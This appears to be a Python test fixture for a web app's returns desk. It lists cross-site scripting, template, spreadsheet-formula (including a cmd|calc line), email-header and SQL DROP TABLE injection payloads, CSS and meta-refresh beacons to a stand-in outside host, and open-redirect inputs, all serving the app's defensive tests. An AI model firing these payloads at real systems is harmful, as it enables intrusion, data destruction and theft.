"""What somebody may type to make a page of ours do something: each calls `bite` with a number of its own if it runs."""


# {n} is the number. Every payload is of our own writing; those without a call would show by what they add to the page.
PAYLOADS = [
    # out of a text
    "<script>bite({n})</script>",
    "<ScRiPt >bite({n})</sCrIpT >",
    "<script\n>bite({n})</script\n>",
    "<img src=x onerror=bite({n})>",
    "<img/src=x/onerror=bite({n})//",
    "<svg onload=bite({n})>",
    "<svg><script>bite({n})</script></svg>",
    "<svg><animate onbegin=bite({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=bite({n}) attributeName=y to=1>",
    "<math><mi xlink:href=javascript:bite({n})>a</mi></math>",
    "<iframe srcdoc='<script>parent.bite({n})</script>'></iframe>",
    "<iframe src=javascript:parent.bite({n})></iframe>",
    "<object data=javascript:bite({n})></object>",
    "<embed src=javascript:bite({n})>",
    "<details open ontoggle=bite({n})>",
    "<input autofocus onfocus=bite({n})>",
    "<video><source onerror=bite({n})></video>",
    "<audio src=x onerror=bite({n})></audio>",
    "<body onload=bite({n})>",
    "<marquee onstart=bite({n})>",
    "<p tabindex=0 autofocus onfocus=bite({n})>",
    "<a href=javascript:bite({n})>here</a>",
    "<a href='java&#115;cript:bite({n})'>here</a>",
    "<a href=data:text/html,<script>bite({n})</script>>here</a>",
    "<form action=javascript:bite({n})><button>Go",
    "<button formaction=javascript:bite({n})>Send</button>",
    "<xss-{n} onfocus=bite({n}) tabindex=1 autofocus>",
    "&lt;script&gt;bite({n})&lt;/script&gt;",
    "&#60;img src=x onerror=bite({n})&#62;",
    "\uff1cscript\uff1ebite({n})\uff1c/script\uff1e",
    "\\x3cscript\\x3ebite({n})\\u003c/script\\u003e",
    "%3Cscript%3Ebite({n})%3C/script%3E",
    # out of an attribute, a box, a title, a comment
    '" autofocus onfocus=bite({n}) x="',
    "' autofocus onfocus=bite({n}) x='",
    '"><script>bite({n})</script>',
    "'><script>bite({n})</script>",
    "` onfocus=bite({n}) `",
    "</textarea><script>bite({n})</script>",
    "</title><script>bite({n})</script>",
    "</option></select><img src=x onerror=bite({n})>",
    "</style></script><svg onload=bite({n})>",
    "</pre></blockquote></dd></table><img src=x onerror=bite({n})>",
    "--><img src=x onerror=bite({n})>",
    "]]><img src=x onerror=bite({n})>",
    "javascript:bite({n})",
    "\tjava\nscript:bite({n})",
    "data:text/html,<script>bite({n})</script>",
    "//elsewhere.example/{n}",
    # what is read by something else than a browser
    "{{{{7*7}}}} {{% include 'desk.html' %}} {{{{config}}}} {n}",
    "${{7*7}} #{{7*7}} <%= 7*7 %> {{link}} {{quote}} {n}",
    '=HYPERLINK("http://elsewhere.example/{n}")',
    "@SUM(1+1)*cmd|' /C calc'!A{n}",
    "a\r\nBcc: x{n}@elsewhere.example",
    "=?utf-8?q?=0ABcc=3Ax{n}=40elsewhere=2Eexample?=",
    "'; DROP TABLE unit; -- {n}",
    # what runs nothing and still changes the page, or who hears of it
    "<style>@import url(http://elsewhere.example/{n});*{{display:none}}</style>",
    "<b style=background:url(http://elsewhere.example/{n})>",
    "<link rel=stylesheet href=http://elsewhere.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/{n}'>",
    "<base href=http://elsewhere.example/{n}/>",
    # signs that are not seen, or turn others around
    "\u202e<img src=x onerror=bite({n})>\u2066\u200f",
    "a\u2028b\u2029c\u0085<svg onload=bite({n})>\ufeff",
    "<scr\u0000ipt>bite({n})</scr\u0000ipt>",
    "<\u0130mg src=x onerror=bite({n})>",
    # these take what comes behind them, so they stand last
    "<plaintext {n}>",
    "<img src='http://elsewhere.example/{n}?",
    "<!-- {n}",
]
HARMLESS = str.maketrans("<>\"'&`", "()--+-")


def payload(number, place=0):
    """One payload by its place in the list, with a number of ours."""
    return PAYLOADS[place].format(n=number)


def poison(number):
    """All payloads in one text, each with a number that tells whose text it is: 12 and 34 make 1234."""
    return " ".join(text.format(n=number * 100 + place) for place, text in enumerate(PAYLOADS))


def whose(bites):
    """The numbers of the texts that these numbers stand in."""
    return {number // 100 for number in bites}


def tame(text):
    """The same text without a sign that means anything to a browser, as long and in as many words."""
    return text.translate(HARMLESS)


# Where a sign-in must not lead: everything that is no page of the desk of this kiosk, in any way to write it.
FOREIGN = [
    "", " ", "/", "//", "///", "rma/desk/", "//elsewhere.example", "///elsewhere.example", "////elsewhere.example/",
    "https://elsewhere.example", "https:elsewhere.example", "http:/elsewhere.example", "https:///elsewhere.example",
    "HTTPS://elsewhere.example/rma/desk/", "javascript:alert(1)", "data:text/html,x", "ftp://elsewhere.example",
    "\\\\elsewhere.example", "/\\elsewhere.example", "\\/elsewhere.example", "/\\/elsewhere.example", "/rma\\desk/",
    "/%2felsewhere.example", "/%5celsewhere.example", "%2f%2felsewhere.example", "/rma/desk/%2f%2felsewhere.example",
    "/rma/desk/%2e%2e/%2e%2e/", "/rma/desk/..", "/rma/desk/../../elsewhere", "/rma/desk/../desk/", "/rma/desk/./x",
    "/rma/desk//elsewhere.example", "/rma/desk//", "//rma/desk/", "/rma/desk/\\elsewhere.example", "/rma/desk/x\\y",
    "https://rma@elsewhere.example/rma/desk/", "//user:pass@elsewhere.example", "@elsewhere.example",
    "/rma/desk@elsewhere.example", "/rma/desk/@elsewhere.example", "https://rma.example@elsewhere.example/",
    "\t//elsewhere.example", "/\t/elsewhere.example", "/rma/desk/\t", "/rma/desk/\r\nLocation: //elsewhere.example",
    "/rma/desk/\n", "\n/rma/desk/", "/rma/desk/\x00", "/rma/desk/%0d%0ax", " /rma/desk/", "/rma/desk/ ",
    "/rma/desk/?next=//elsewhere.example", "/rma/desk/#//elsewhere.example", "/rma/desk/;x", "/rma/desk/?a=b\\c",
    "//elsewhere\u3002example", "/\u3002\u3002/elsewhere.example", "/rma/desk/\u2024\u2024/", "\ufeff/rma/desk/",
    "\uff0f\uff0felsewhere.example",
    "/rma/desk/\u2215elsewhere.example", "/rma/desk/\u0661", "/rma/desk/é", "/rma/deskelsewhere.example", "/rma/Desk/",
    "/rma/flir/", "/rma/status/", "/rma/desk", "/rma/desk/" + 500 * "x", "/rma/desk/?q=" + 500 * "x",
]  # fmt: skip
